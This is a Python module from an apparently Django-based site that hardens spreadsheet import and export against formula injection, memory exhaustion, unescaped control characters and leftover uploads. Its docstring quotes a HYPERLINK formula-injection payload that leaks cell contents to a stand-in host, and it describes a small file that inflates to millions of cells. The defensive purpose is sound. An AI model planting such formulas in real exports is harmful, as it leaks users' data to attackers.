"""Spreadsheet safety: every CSV and XLSX the site writes or reads goes through here.

Three attacks (security issue 16) are stopped in this module:

- Formula injection. A text that starts with "=", "+", "-", "@", a tab or a
  carriage return is run as a formula by Excel, LibreOffice and Google Sheets
  when a researcher opens the export: `=HYPERLINK("http://x/?leak="&A2, "…")`
  in a public description sends the next cells to an attacker at one click.
  Exports prefix such a text with a single quote (OWASP's advice), so it is
  shown, never run; values that are not text (numbers, dates) and texts that
  are plain numbers ("-3") are left as they are. Imports read a quote our export
  added back off, and refuse any other cell that a spreadsheet would run
  (`formula_refusal`, used by cases/resources.py), an XLSX formula cell too (read
  as its formula, not as the value it last computed).
- Memory exhaustion. openpyxl pads every row to the width the sheet declares:
  3,000 rows with one cell in column XFD (16,384 columns) are 49 million cells
  from a 26 KB file. Uploads are capped by size, an XLSX also by its unpacked
  size and the rows, columns and cells (rows times columns) it declares, all
  before a cell is read, and its cells are read in openpyxl's streaming
  (read-only) mode, row by row, each row checked before it is kept. A CSV is
  refused before it is parsed when it could hold too many cells (one per comma
  or line break).
- Control characters. XML cannot hold most characters below U+0020, and openpyxl
  refuses to write them: a vertical tab pasted from a word processor (its line
  break) stopped the whole XLSX export. They are written as OOXML writes them
  (`_x000B_`, a literal `_x…_` text escaped as `_x005F_x…_`), which Excel shows as
  the character, and an import reads them back (`xlsx_text`).
- Uploads left on disk. django-import-export keeps the file between the
  preview and the confirmation in the system's temporary folder, where a
  rejected or abandoned upload stayed, in plain text. `DatabaseStorage`
  (jobs/storage.py) keeps it in the database instead, for the import only.
"""

import re
import zipfile
from io import BytesIO

import tablib
from django import forms
from django.conf import settings
from django.template.defaultfilters import filesizeformat
from django.utils.translation import gettext as _
from import_export.formats import base_formats
from import_export.forms import ImportForm

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
# OOXML's escape of a character XML cannot hold, and the text that looks like one.
# A carriage return is escaped too, as Excel does: XML reads a bare one back as a
# line feed, so "\rt" came back "\nt" and an unchanged row read as changed.
XML_ESCAPED = re.compile(r"[\x00-\x08\x0b-\x1f]")
OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
ESCAPE_LIKE_START = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
# An XLSX is a zip of XML: its unpacked parts may be at most this many times the
# upload size limit (openpyxl holds the shared strings in memory).
UNPACKED_RATIO = 10


class SpreadsheetRefused(ValueError):
    """A file refused before its cells are read; the message says why, translated."""


def is_formula(value):
    """Would a spreadsheet run this cell? Only texts; a plain number is a number."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    )


def escape_cell(value):
    return "'" + value if is_formula(value) else value


def unescape_cell(value):
    """A cell our export escaped ("'=…", "''=…") reads back as the text it was."""
    if isinstance(value, str) and value.startswith("'") and is_formula(value.lstrip("'")):
        return value[1:]
    return value


def export_cell(value):
    """A cell as a spreadsheet export writes it: escaped if a spreadsheet would run
    it, and a text that starts with quotes before a formula ("'=x") quoted once
    more, so that an import, which reads one such quote off, reads the text it was."""
    if isinstance(value, str) and is_formula(value.lstrip("'")):
        return "'" + value
    return value


def escape_dataset(dataset):
    """A copy of the tablib dataset with every formula-like text escaped."""
    headers = [escape_cell(header) for header in dataset.headers] if dataset.headers else None
    rows = [tuple(export_cell(value) for value in row) for row in dataset]
    return tablib.Dataset(*rows, headers=headers, title=dataset.title)


def xlsx_cell(value):
    """A text as an XLSX holds it: the characters XML cannot hold escaped as OOXML
    escapes them, and a literal escape-like text protected."""
    if not isinstance(value, str):
        return value
    value = ESCAPE_LIKE_START.sub("_x005F_", value)
    return XML_ESCAPED.sub(lambda match: f"_x{ord(match.group()):04X}_", value)


def xlsx_text(value):
    """The text an XLSX cell holds, its OOXML escapes read back (xlsx_cell's inverse)."""
    if not isinstance(value, str) or "_x" not in value:
        return value
    return OOXML_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), value)


def formula_refusal(*, line, column):
    return _(
        "Line %(line)d, column “%(column)s”: the cell starts with =, +, -, @, a tab or a "
        "line break, so a spreadsheet would run it as a formula. Nothing was imported; "
        "remove that first character and upload the file again."
    ) % {"line": line, "column": column}


def check_size(size):
    limit = settings.SPREADSHEET_MAX_BYTES
    if size > limit:
        raise SpreadsheetRefused(
            _("The file is larger than %(limit)s; split it into smaller files.")
            % {"limit": filesizeformat(limit)}
        )


def check_cells(cells):
    # Memory follows the cells, empty ones included: rows times columns, not the file size.
    if cells > settings.SPREADSHEET_MAX_CELLS:
        raise SpreadsheetRefused(
            _("The sheet has more than %(limit)d cells; split it into smaller files.")
            % {"limit": settings.SPREADSHEET_MAX_CELLS}
        )


def check_dimensions(*, rows, columns):
    """Rows (the header included) and columns, as the sheet declares or holds them."""
    if (columns or 0) > settings.SPREADSHEET_MAX_COLUMNS:
        raise SpreadsheetRefused(
            _("The sheet has %(columns)d columns; at most %(limit)d can be imported.")
            % {"columns": columns, "limit": settings.SPREADSHEET_MAX_COLUMNS}
        )
    if (rows or 0) > settings.SPREADSHEET_MAX_ROWS + 1:
        raise SpreadsheetRefused(
            _("The sheet has %(rows)d rows; at most %(limit)d can be imported at once.")
            % {"rows": rows - 1, "limit": settings.SPREADSHEET_MAX_ROWS}
        )
    check_cells((rows or 0) * (columns or 0))


def check_unpacked_size(content):
    try:
        with zipfile.ZipFile(BytesIO(content)) as archive:
            unpacked = sum(member.file_size for member in archive.infolist())
    except zipfile.BadZipFile as error:
        raise SpreadsheetRefused(_("The file is not an XLSX spreadsheet.")) from error
    # zipfile stops unpacking a part at its declared size, so the declaration holds.
    if unpacked > UNPACKED_RATIO * settings.SPREADSHEET_MAX_BYTES:
        raise SpreadsheetRefused(
            _("The spreadsheet unpacks to more than %(limit)s; split it into smaller files.")
            % {"limit": filesizeformat(UNPACKED_RATIO * settings.SPREADSHEET_MAX_BYTES)}
        )


def formula_text(value):
    """An array or data-table formula (an object in openpyxl) as its text: "=…"."""
    from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

    if isinstance(value, ArrayFormula):
        return value.text
    if isinstance(value, DataTableFormula):
        return "=TABLE()"
    return value


class CSV(base_formats.CSV):
    """import-export's CSV, size-capped on import and formula-escaped on export."""

    def create_dataset(self, in_stream, **kwargs):
        check_size(len(in_stream.encode() if isinstance(in_stream, str) else in_stream))
        # At most one cell per comma or line break: refused before the parse if too many.
        comma, newline = (",", "\n") if isinstance(in_stream, str) else (b",", b"\n")
        check_cells(in_stream.count(comma) + in_stream.count(newline) + 1)
        dataset = super().create_dataset(in_stream, **kwargs)
        check_dimensions(rows=dataset.height + 1, columns=dataset.width)
        return dataset

    def export_data(self, dataset, **kwargs):
        return super().export_data(escape_dataset(dataset), **kwargs)


class XLSX(base_formats.XLSX):
    """import-export's XLSX, read in streaming mode after the size checks, and
    formula-escaped on export."""

    def create_dataset(self, in_stream):
        import openpyxl

        check_size(len(in_stream))
        check_unpacked_size(in_stream)
        # Not data_only: a formula cell reads as its formula ("=…"), which the import
        # refuses, rather than as the value a spreadsheet last computed.
        book = openpyxl.load_workbook(BytesIO(in_stream), read_only=True, data_only=False)
        try:
            sheet = book.active
            # The declared <dimension>, read before any cell.
            check_dimensions(rows=sheet.max_row, columns=sheet.max_column)
            return self._read(sheet)
        finally:
            book.close()

    @staticmethod
    def _read(sheet):
        # Without a declared dimension openpyxl makes each row as wide as its last
        # cell: one row at a time is held, and checked, before it is kept.
        dataset = tablib.Dataset()
        rows = sheet.iter_rows(values_only=True)
        header = next(rows, ())
        check_dimensions(rows=1, columns=len(header))
        dataset.headers = list(header)
        width = len(header)
        for number, row in enumerate(rows, 2):
            check_dimensions(rows=number, columns=max(len(row), width))
            row = tuple(xlsx_text(formula_text(value)) for value in row)
            dataset.append((row + (None,) * width)[:width])
        return dataset

    def export_data(self, dataset, **kwargs):
        escaped = escape_dataset(dataset)
        rows = [tuple(xlsx_cell(value) for value in row) for row in escaped]
        headers = [xlsx_cell(header) for header in escaped.headers or []] or None
        return super().export_data(
            tablib.Dataset(*rows, headers=headers, title=dataset.title), **kwargs
        )


class SpreadsheetImportForm(ImportForm):
    """The admin's import form, refusing a file over the size limit before it is read."""

    def clean_import_file(self):
        import_file = self.cleaned_data["import_file"]
        try:
            check_size(import_file.size)
        except SpreadsheetRefused as error:
            raise forms.ValidationError(str(error)) from error
        return import_file
